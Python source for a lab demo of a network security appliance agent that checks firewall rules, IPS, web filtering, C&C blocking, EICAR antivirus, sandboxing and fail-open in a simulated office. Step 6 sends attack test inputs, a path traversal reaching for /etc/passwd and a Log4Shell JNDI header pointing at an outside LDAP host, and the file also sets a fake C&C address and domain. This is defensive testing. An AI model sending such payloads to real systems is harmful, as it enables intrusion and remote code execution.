"""The demo (``python -m lab demo``): the agent protecting a simulated office, with EVE evidence.

Builds the lab, shows what an unprotected bridge lets through, brings up the agent with the
shipped example config, drives allowed browsing, a denied service and an inbound scan, kills the
agent to show fail-open, and tears everything down (also on Ctrl-C).
"""
from __future__ import annotations

import argparse
import collections
import re
import tempfile
import time
from pathlib import Path
from typing import Any

from lab.netns import Lab
from lab.agentrun import LabAgent

SCAN_PORTS = (22, 80, 445, 3389)
PUBLISHED = 80  # the office publishes pc1's web server to the internet
DEMO_OVERRIDES = {
    "engines.firewall.rules": [
        {"name": "publish office web server", "from": "wan", "to": "lan", "dst": "192.0.2.11", "service": "tcp/80", "action": "allow"},
        {"name": "block outbound telnet", "from": "lan", "to": "wan", "service": "telnet", "action": "reject"},
        {"name": "block outbound SMB", "from": "lan", "to": "wan", "service": "smb", "action": "deny"},
        {"name": "log outbound RDP", "from": "lan", "to": "wan", "service": "rdp", "action": "log"},
    ]
}


CNC_IP, CNC_PORT, CNC_DOMAIN = "203.0.113.99", 4443, "update.evil-c2.example"
DEMO_FEEDS = {  # the lab's threat-intel bundle: a Feodo-style C&C list and a domain list
    "feodo.csv": "first_seen_utc,dst_ip,dst_port,c2_status,last_online,malware\n"
                 f"2026-11-20 08:00:00,{CNC_IP},{CNC_PORT},online,2026-11-25,QakBot\n",
    "c2-domains.txt": "# C&C domains\nevil-c2.example\n",
}


def atp_overrides(workdir: Path) -> dict[str, Any]:
    """ATP with the demo's feeds (the lab's C&C lives at a documentation address: opt in)."""
    feeds = workdir / "threatintel"
    feeds.mkdir(parents=True, exist_ok=True)
    for name, text in DEMO_FEEDS.items():
        (feeds / name).write_text(text)
    return {"engines.atp": {"enabled": True, "feeds": [str(feeds)], "allow_documentation_addresses": True}}


def say(ja: str, en: str) -> None:
    print(f"  {ja}\n  {en}", flush=True)


def step(n: int | str, ja: str, en: str) -> None:
    print(f"\n[{n}] {ja} / {en}", flush=True)


def tcp_open(lab: Lab, host: str, ip: str, port: int, timeout: float = 1.5) -> bool:
    return lab.wait_tcp(host, ip, port, timeout)


def curl(lab: Lab, host: str, url: str, timeout: float = 5.0) -> tuple[bool, str]:
    res = lab.exec(host, ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", str(timeout), url])
    return res.returncode == 0 and res.stdout.strip() == "200", (res.stdout.strip() or res.stderr.strip())


def connect_result(lab: Lab, host: str, ip: str, port: int) -> str:
    """'open', 'refused' (RST came back) or 'timeout' (silently dropped)."""
    code = (
        "import socket,sys\n"
        "s=socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET); s.settimeout(2)\n"
        "try:\n s.connect((sys.argv[1], int(sys.argv[2]))); print('open')\n"
        "except ConnectionRefusedError: print('refused')\n"
        "except OSError: print('timeout')\n"
    )
    import sys

    res = lab.exec(host, [sys.executable, "-c", code, ip, str(port)], timeout=10)
    return res.stdout.strip() or "error"


def scan(lab: Lab, target: str) -> dict[int, bool]:
    return {p: tcp_open(lab, "atk", target, p, 1.0) for p in SCAN_PORTS}


def show_scan(result: dict[int, bool]) -> None:
    for port, is_open in result.items():
        print(f"    port {port:5d}: {'OPEN 開いている' if is_open else 'blocked 遮断'}")


def summarize_alarms(alarms: list[dict[str, Any]]) -> None:
    counts: collections.Counter[tuple[str, str]] = collections.Counter()
    for rec in alarms:
        if rec.get("event_type") == "alert":
            counts[(rec["alert"]["signature"], rec["alert"]["action"])] += 1
    for (sig, action), n in counts.most_common():
        print(f"    {n:4d} x {action:8s} {sig}")
    ips = [r for r in alarms if r.get("alert", {}).get("engine") == "ips"]
    if ips:
        import json

        print("  IPS の EVE 記録の例 / an IPS EVE record:")
        print("    " + json.dumps(ips[0], ensure_ascii=False))


def phishing_example() -> str | None:
    """A real entry of the UT1 phishing list, for the web filter step (None without the lists)."""
    from lab.agentrun import UT1

    path = UT1 / "phishing" / "domains"
    if not path.is_file():
        return None
    for line in path.read_text().splitlines():
        name = line.strip()
        if "." in name and not name.replace(".", "").isdigit() and len(name) < 40:
            return name
    return None


def _dns(lab: Lab, bad: str | None) -> None:
    import os
    import sys

    from lab.agentrun import REPO

    lab.add_internet_host("dns", "198.51.100.53")
    web = lab.hosts["web"]
    names = [f"{n}={web.ipv4},{web.ipv6}" for n in ("www.example.org", bad) if n]
    names.append(f"{CNC_DOMAIN}={CNC_IP},2001:db8:3::99")
    lab.popen("dns", [sys.executable, "-m", "lab.dns", "53", *names], name="dns",
              env={**os.environ, "PYTHONPATH": str(REPO)})


def _webfilter(lab: Lab, bad: str | None, results: dict[str, bool]) -> None:
    step(7, "Web フィルター: フィッシングサイトへのアクセス", "web filter: a phishing site (a real UT1 entry)")
    if bad is None:
        say("UT1 リストがないため省略", "skipped: the UT1 lists are not beside the repository")
        return
    web = lab.hosts["web"]
    answer = lab.exec("pc1", ["dig", "@198.51.100.53", "+short", "+tries=1", "+time=2", bad]).stdout.strip()
    print(f"    DNS {bad} -> {answer}  (UTM の管理アドレス / the UTM's own address: block page)")
    res = lab.exec("pc1", ["curl", "-sS", "--max-time", "4", "--resolve", f"{bad}:80:{web.ipv4}", f"http://{bad}/login"])
    title = next((ln for ln in res.stdout.splitlines() if "<h1>" in ln), "").replace("<h1>", "").replace("</h1>", "")
    print(f"    http://{bad}/login -> {title or res.stderr.strip()}")
    tls = lab.exec("pc1", ["curl", "-sS", "--max-time", "4", "--resolve", f"{bad}:443:{web.ipv4}", f"https://{bad}/"])
    print(f"    https://{bad}/ -> {tls.stderr.strip()[:70]}")
    results["web filter: DNS sinkhole"] = answer == "192.0.2.2"
    results["web filter: block page"] = "ブロックされました" in res.stdout
    results["web filter: HTTPS reset"] = "reset" in tls.stderr.lower()


def _center(lab: Lab, agent: LabAgent, workdir: Path, results: dict[str, bool]) -> None:
    """The operations center: the box activates, checks in, and its alarms arrive (also after an outage)."""
    import yaml

    from lab.agentrun import center_overrides, start_lab_center

    step(11, "運用センター: アクティベーションと警告の送信", "operations center: activation and alarm delivery")
    center = start_lab_center(lab, workdir / "center", heartbeat_interval=2)
    try:
        say(f"運用センター起動 ({center.url}, 独自 CA)", f"reference center up at {center.url} (vcr-opscenter serve, its own CA)")
        data = yaml.safe_load(agent.config_path.read_text(encoding="utf-8"))
        for key, value in center_overrides(center, workdir / "agent", portcheck={"enabled": False}, ntp_servers=[]).items():
            data.setdefault("center", {})[key.split(".", 1)[1]] = value
        agent.config_path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
        agent.cli("reload")  # the link starts on reload: the data path keeps running
        serial = "VCR116W-DEMO0001"
        code = center.issue_code("C-DEMO-001", serial=serial)
        print(f"    運用センターが発行したアクティベーションコード / activation code from the center: {code}")
        res = agent.cli("activate", code, "--serial", serial)
        for line in (res.stdout or res.stderr).strip().splitlines():
            print(f"    {line}")
        results["center: activated"] = res.returncode == 0

        def until(pred: Any, timeout: float = 20.0) -> Any:
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                value = pred()
                if value:
                    return value
                time.sleep(0.3)
            return None

        dev = until(lambda: next((d for d in center.devices() if d["serial"] == serial and d["last_checkin"]), None))
        if dev:
            h = dev["health"]
            print(f"    チェックイン受信 / check-in at the center: {dev['device_id']} {dev['status']}, "
                  f"CPU {h.get('cpu_percent')}%, memory {h.get('memory_percent')}%, uptime {h.get('uptime_s', 0) / 3600:.1f} h")
        results["center: heartbeat"] = bool(dev)
        device_id = dev["device_id"] if dev else ""
        web = lab.hosts["web"]
        connect_result(lab, "pc1", web.ipv4, 23)  # blocked telnet: an alarm
        got = until(lambda: [a for a in center.alarms(device_id) if a["signature"] == "VCR firewall: block outbound telnet"])
        for a in (got or [])[:1]:
            ev = a["event"]
            print(f"    警告がセンターに到着 / alarm at the center: {a['signature']} {ev['src_ip']} -> {ev['dest_ip']}:{ev['dest_port']}"
                  f" (severity {a['severity']}, event_id {a['event_id'][:8]}...)")
        results["center: alarms arrive"] = bool(got)
        _sandbox(lab, agent, center, workdir, device_id, results)
        if agent.config.get("engines", {}).get("av", {}).get("enabled"):
            lab.exec("pc1", ["curl", "-sS", "--max-time", "8", "-o", "/dev/null",
                             f"http://{web.ipv4}:{AV_PORT}/setup.com"])
            got = until(lambda: [a for a in center.alarms(device_id) if (a["signature"] or "").startswith("VCR AV: virus")])
            for a in (got or [])[:1]:
                ev = a["event"]
                print(f"    ウイルス検知の警告がセンターに到着 / antivirus alarm at the center: {a['signature']}, "
                      f"{ev['fileinfo']['filename']} for {ev['av']['lan_host']} ({ev['alert']['action']})")
            results["center: antivirus alarm arrives"] = bool(got)
        say("センター停止中の警告はディスクに保存され、復旧後に 1 回だけ届きます",
            "alarms raised while the center is down wait on disk and arrive once when it is back:")
        center.stop()
        before = center.alarm_count(device_id)
        connect_result(lab, "pc1", web.ipv4, 23)
        pending = until(lambda: ((agent.status() or {}).get("center") or {}).get("spool", {}).get("pending"), 10)
        print(f"    センター停止中 / center down: {pending or 0} 件が送信待ち / alarm(s) waiting in the spool")
        center.start()
        after = until(lambda: center.alarm_count(device_id) > before and center.alarm_count(device_id), 30)
        print(f"    センター復旧後 / center back: 合計 {after or before} 件を保存 / {after or before} alarms stored in all (none lost, none twice)")
        results["center: alarm kept through an outage"] = bool(after) and after >= before + 1
    finally:
        center.close()


def _sandbox(lab: Lab, agent: LabAgent, center: Any, workdir: Path, device_id: str, results: dict[str, bool]) -> None:
    """Sandbox: pc1 downloads an unknown executable (a harmless test file the center's YARA rule flags),
    the box submits it and passes it at its hold timeout, the center judges it malicious, a retro
    alarm names pc1, and pc2's next download is blocked."""
    import hashlib
    import sys

    import yaml

    from lab.sandbox_samples import pe

    print("\n[10b] サンドボックス: 未知の実行ファイルをセンターで判定 / sandbox: an unknown executable judged at the center",
          flush=True)
    folder = workdir / "sandbox-files"
    folder.mkdir(parents=True, exist_ok=True)
    sample = pe(salt=workdir.name.encode())
    (folder / "invoice.exe").write_bytes(sample)
    lab.popen("web", [sys.executable, "-m", "http.server", "8088", "--bind", "0.0.0.0", "--directory", str(folder)],
              name="sandbox-files")
    lab.wait_tcp("web", "127.0.0.1", 8088, 10)
    data = yaml.safe_load(agent.config_path.read_text(encoding="utf-8"))
    data.setdefault("engines", {})["sandbox"] = {
        "enabled": True, "url": center.url, "ca_file": str(center.ca),
        "auth_file": str(workdir / "agent" / "lib" / "center.json"),
        "cache_file": str(workdir / "agent" / "lib" / "sandbox-verdicts.db"), "hold_timeout": 0.3, "poll_interval": 1.0}
    agent.config_path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    asked = time.time()
    agent.cli("reload")
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:  # every worker has rebuilt its engines for every reload asked so far
        status_file = agent.log_dir / "status.json"
        fresh = status_file.exists() and status_file.stat().st_mtime > asked + 1.0  # written after the request
        st = (agent.status() or {}) if fresh else {}
        r = st.get("reloads") or {}
        if fresh and r.get("requested") and r.get("workers_reloaded", 0) >= r["requested"] * int(st.get("ready") or 1):
            break
        time.sleep(0.5)
    url = f"http://{lab.hosts['web'].ipv4}:8088/invoice.exe"
    out = workdir / "pc1-invoice.exe"
    lab.exec("pc1", ["curl", "-sS", "--max-time", "10", "-o", str(out), url])
    got = out.read_bytes() if out.exists() else b""
    print(f"    pc1: invoice.exe {len(got)} bytes, sha256 {hashlib.sha256(got).hexdigest()[:16]}... "
          "(未知: 判定待ちの間に通過 / unknown: passed while the verdict was pending)")
    retro = agent.wait_alarm(lambda r: r.get("alert", {}).get("signature_id") == 9600004, timeout=60)
    if retro:
        print(f"    センターの判定 / center's verdict: {retro['sandbox']['verdict']} "
              f"({'; '.join(retro['sandbox']['reasons'][:1])})")
        print(f"    事後アラーム / retro alarm: {retro['alert']['signature']}")
    results["sandbox: judged at the center, retro alarm names pc1"] = bool(retro) and \
        retro["sandbox"]["lan_host"] == lab.hosts["pc1"].ipv4
    ok, _ = curl(lab, "pc2", url)
    blocked = agent.wait_alarm(lambda r: r.get("alert", {}).get("signature_id") == 9600001, timeout=10)
    print(f"    pc2: invoice.exe {'ダウンロード成功 (!)' if ok else 'ブロック / blocked'}"
          f"{' - ' + blocked['alert']['signature'] if blocked else ''}")
    at_center = None
    deadline = time.monotonic() + 20
    while at_center is None and time.monotonic() < deadline:
        at_center = next((a for a in center.alarms(device_id) if (a["signature"] or "").startswith("VCR Sandbox: malicious")),
                         None)
        time.sleep(0.3)
    results["sandbox: blocked at pc2's next download, alarm at the center"] = not ok and bool(blocked) and bool(at_center)


def _cnc(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
    step(8, "脅威防御: 感染した PC から C&C サーバーへの通信", "threat protection: an infected PC calls its C&C server")
    answer = lab.exec("pc1", ["dig", "@198.51.100.53", "+short", "+tries=1", "+time=2", CNC_DOMAIN]).stdout.strip()
    print(f"    DNS {CNC_DOMAIN} -> {answer}  (C&C ドメインは UTM のアドレスへ / the C&C name gets the UTM's address)")
    direct = connect_result(lab, "pc1", CNC_IP, CNC_PORT)
    print(f"    TCP {CNC_IP}:{CNC_PORT} (ハードコードされた C&C / hard-coded C&C) -> {direct}")
    rec = agent.wait_alarm(lambda r: r.get("atp", {}).get("where") == "kernel", timeout=5)
    if rec is not None:
        a = rec["atp"]
        say(f"警告: 端末 {a['lan_host']} が {a.get('threat')} の C&C ({a.get('indicator')}) に接続しようとしました",
            f"alarm: host {a['lan_host']} tried to reach a {a.get('threat')} C&C ({a.get('indicator')}), dropped in the kernel")
    results["ATP: C&C domain sinkholed"] = answer == "192.0.2.2"
    results["ATP: C&C address dropped"] = direct == "timeout" and rec is not None


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
AV_PORT = 8080  # web serves the EICAR test file here


def start_antivirus(lab: Lab, workdir: Path) -> tuple[Any, dict[str, Any]]:
    """The box's clamd (lab/clamd.py: the shipped config/av/clamd.conf, starter database) and the
    infected download on web; (the clamd or None, the agent's overrides). Without ClamAV the
    antivirus step is left out."""
    import sys

    from lab.clamd import PrivateClamd, missing

    why = missing()
    if why:
        say("ClamAV がないためウイルス対策の手順を省略", f"web antivirus step left out: {why}")
        return None, {}
    clamd = PrivateClamd(workdir / "clamd").start()
    (workdir / "eicar.com").write_bytes(EICAR)
    lab.popen("web", [sys.executable, "-m", "lab.fileserver", str(AV_PORT), str(workdir / "eicar.com")], name="eicar")
    lab.wait_tcp("web", "127.0.0.1", AV_PORT, 10)
    return clamd, {"engines.av": {"enabled": True, "clamd_socket": clamd.socket, "database": str(clamd.database)}}


def _antivirus(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
    step("8b", "Web アンチウイルス: ウイルスを含むファイルのダウンロード",
         "web antivirus: a PC downloads a file carrying a virus (the EICAR test file)")
    url = f"http://{lab.hosts['web'].ipv4}:{AV_PORT}/invoice.com"
    res = lab.exec("pc1", ["curl", "-sS", "--max-time", "8", "-w", "\n%{http_code}", url])
    page = res.stdout
    blocked = page.endswith("403") and "ウイルスが検出されたため" in page and "EICAR-STANDARD" not in page
    found = re.search(r"<title>(.*?)</title>", page, re.S)
    print(f"    pc1 → {url}: HTTP {page[-3:]}, ブロックページ / block page: {found.group(1).strip() if found else '-'}")
    rec = agent.wait_alarm(lambda r: r.get("event_type") == "alert" and "av" in r, timeout=8)
    if rec is not None:
        print(f"    警告 / alarm: {rec['alert']['signature']} — {rec['fileinfo']['filename']} "
              f"({rec['fileinfo']['magic']}, sha256 {rec['fileinfo']['sha256'][:16]}...), {rec['alert']['action']}")
    results["web antivirus: block page"] = blocked
    results["web antivirus: alarm"] = rec is not None and rec["alert"]["action"] == "blocked"


def _servers(lab: Lab) -> None:
    lab.start_http_server("web", 80)
    lab.start_tcp_listener("web", 443)
    lab.start_http_server("pc1", PUBLISHED)
    lab.start_tcp_listener("web", 23)
    lab.start_tcp_listener("web", 445)
    for port in SCAN_PORTS:
        if port != PUBLISHED:
            lab.start_tcp_listener("pc1", port)


def _protected(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
    web, pc1 = lab.hosts["web"], lab.hosts["pc1"]
    step(3, "許可された Web 閲覧 (LAN→インターネット)", "allowed web browsing (LAN -> internet)")
    ok4, d4 = curl(lab, "pc1", f"http://{web.ipv4}/")
    ok6, d6 = curl(lab, "pc1", f"http://[{web.ipv6}]/")
    say(f"IPv4: {'成功' if ok4 else '失敗'} ({d4})  IPv6: {'成功' if ok6 else '失敗'} ({d6})", f"IPv4 {'OK' if ok4 else 'FAILED'}, IPv6 {'OK' if ok6 else 'FAILED'}")
    results["browsing works"] = ok4 and ok6

    step(4, "禁止されたサービス (telnet, SMB)", "denied services (telnet is rejected, SMB is dropped)")
    telnet = connect_result(lab, "pc1", web.ipv4, 23)
    smb = connect_result(lab, "pc1", web.ipv4, 445)
    say(f"telnet (TCP 23): {telnet} / SMB (TCP 445): {smb}", "expected: telnet refused (TCP reset from the UTM), SMB timeout (dropped)")
    results["telnet rejected"] = telnet == "refused"
    results["smb dropped"] = smb == "timeout"

    step(5, "インターネットからのポートスキャン (公開中の Web サーバー 80 番以外は遮断)",
         "inbound port scan from the internet (only the published web server, port 80, answers)")
    protected = scan(lab, pc1.ipv4)
    show_scan(protected)
    results["scan blocked"] = protected[PUBLISHED] and not any(v for p, v in protected.items() if p != PUBLISHED)

    step(6, "公開 Web サーバーへの攻撃を IPS が遮断", "the IPS blocks attacks on the published web server")
    for label, argv in (
        ("normal request / 通常のアクセス", ["/"]),
        ("path traversal / ディレクトリトラバーサル", ["/cgi-bin/../../../../etc/passwd"]),
        ("Log4Shell header / Log4Shell 攻撃", ["/", "-H", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}"]),
    ):
        res = lab.exec("atk", ["curl", "-sS", "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "3",
                               *argv[1:], f"http://{pc1.ipv4}{argv[0]}"])
        code = res.stdout.strip() if res.returncode == 0 else "blocked 遮断"
        print(f"    {label:45s} -> {code}")
        results[f"IPS: {label.split(' /')[0]}"] = (code == "200") == (argv == ["/"])
    lab.exec("pc1", ["dig", "@198.51.100.53", "+tries=1", "+time=1", "www.malware.example", "A"])
    say("LAN の PC がマルウェアのドメインを DNS で問い合わせ (警告)", "a LAN PC looked up a malware domain (alert)")


def _fail_open(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
    web, pc1 = lab.hosts["web"], lab.hosts["pc1"]
    step(12, "エージェントを強制終了 (kill -9) しても通信は継続", "kill -9 the agent: the office stays online (fail-open)")
    agent.kill()
    ok, detail = curl(lab, "pc1", f"http://{web.ipv4}/")
    say(f"Web 閲覧: {'成功' if ok else '失敗'} ({detail})", f"browsing with the agent dead: {'OK' if ok else 'FAILED'}")
    still = scan(lab, pc1.ipv4)
    say("カーネルのファイアウォール規則はエージェント停止中も有効", "the kernel firewall policy still blocks the scan while the agent is down:")
    show_scan(still)
    results["fail-open keeps browsing"] = ok
    results["policy holds without agent"] = not any(v for p, v in still.items() if p != PUBLISHED)


def run_demo(args: argparse.Namespace) -> int:
    prefix = getattr(args, "prefix", "vcr")
    workdir = Path(tempfile.mkdtemp(prefix="vcr-demo-"))
    results: dict[str, bool] = {}
    print("=== VCR116w デモ: 模擬オフィスの保護 / demo: protecting a simulated office ===")
    with Lab(prefix, log_dir=workdir / "lab") as lab:
        step(1, "模擬オフィスを構築 (ネットワーク名前空間)", "building the office in network namespaces")
        for name, h in lab.hosts.items():
            print(f"    {name:7s} {h.ipv4:15s} {h.ipv6}")
        _servers(lab)
        lab.add_internet_host("cnc", CNC_IP)
        lab.start_tcp_listener("cnc", CNC_PORT)
        bad = phishing_example()
        _dns(lab, bad)
        step(2, "保護なし (ただのブリッジ) でスキャン", "scan through a bare bridge (no protection)")
        lab.bridge_bare()
        show_scan(scan(lab, lab.hosts["pc1"].ipv4))
        lab.unbridge_bare()

        from lab.demo_mail import DemoMail

        mail = DemoMail()
        mail_overrides = mail.start(lab, workdir / "mail")
        clamd, av = start_antivirus(lab, workdir)  # the web antivirus' clamd serves the mail engine too
        agent = LabAgent(lab, workdir / "agent", overrides={**DEMO_OVERRIDES, **atp_overrides(workdir),
                                                            **mail_overrides, **av})
        try:
            agent.bridge_up()
            agent.start()
            say("エージェント起動完了", f"agent running: {agent.status()['ready']} NFQUEUE workers, config {agent.config_path}")
            _protected(lab, agent, results)
            _webfilter(lab, bad, results)
            _cnc(lab, agent, results)
            if clamd is not None:
                _antivirus(lab, agent, results)
            mail.show(lab, agent, results, step, say, 9, workdir)
            mail.show_spam(lab, agent, results, step, say, "9b", workdir)
            step(10, "警告ログ (EVE JSON)", "alarms written (EVE JSON)")
            time.sleep(1.0)
            alarms = agent.alarms()
            summarize_alarms(alarms)
            results["alarms written"] = any(r.get("event_type") == "alert" for r in alarms)
            _center(lab, agent, workdir, results)
            _fail_open(lab, agent, results)
        finally:
            agent.kill()
            step(13, "後片付け", "tearing down (bridge down, namespaces removed)")
            try:
                agent.bridge_down()
            finally:
                mail.stop()
                if clamd is not None:
                    clamd.stop()
    print("\n=== 結果 / results ===")
    for what, ok in results.items():
        print(f"  {'OK  ' if ok else 'FAIL'} {what}")
    print(f"  logs: {workdir}")
    return 0 if results and all(results.values()) else 1


def lab_up(args: argparse.Namespace) -> int:
    lab = Lab(args.prefix, log_dir=Path(tempfile.mkdtemp(prefix="vcr-lab-")))
    lab.up()
    lab.detach()  # keep the lab after this command exits
    print(f"lab {args.prefix} is up; `python -m lab down --prefix {args.prefix}` removes it")
    for name, h in lab.hosts.items():
        print(f"    {name:7s} {h.netns:12s} {h.ipv4:15s} {h.ipv6}")
    return 0


def lab_down(args: argparse.Namespace) -> int:
    from lab.netns import cleanup_stale

    removed = cleanup_stale(args.prefix)
    print(f"removed: {', '.join(removed) or 'nothing'}")
    return 0
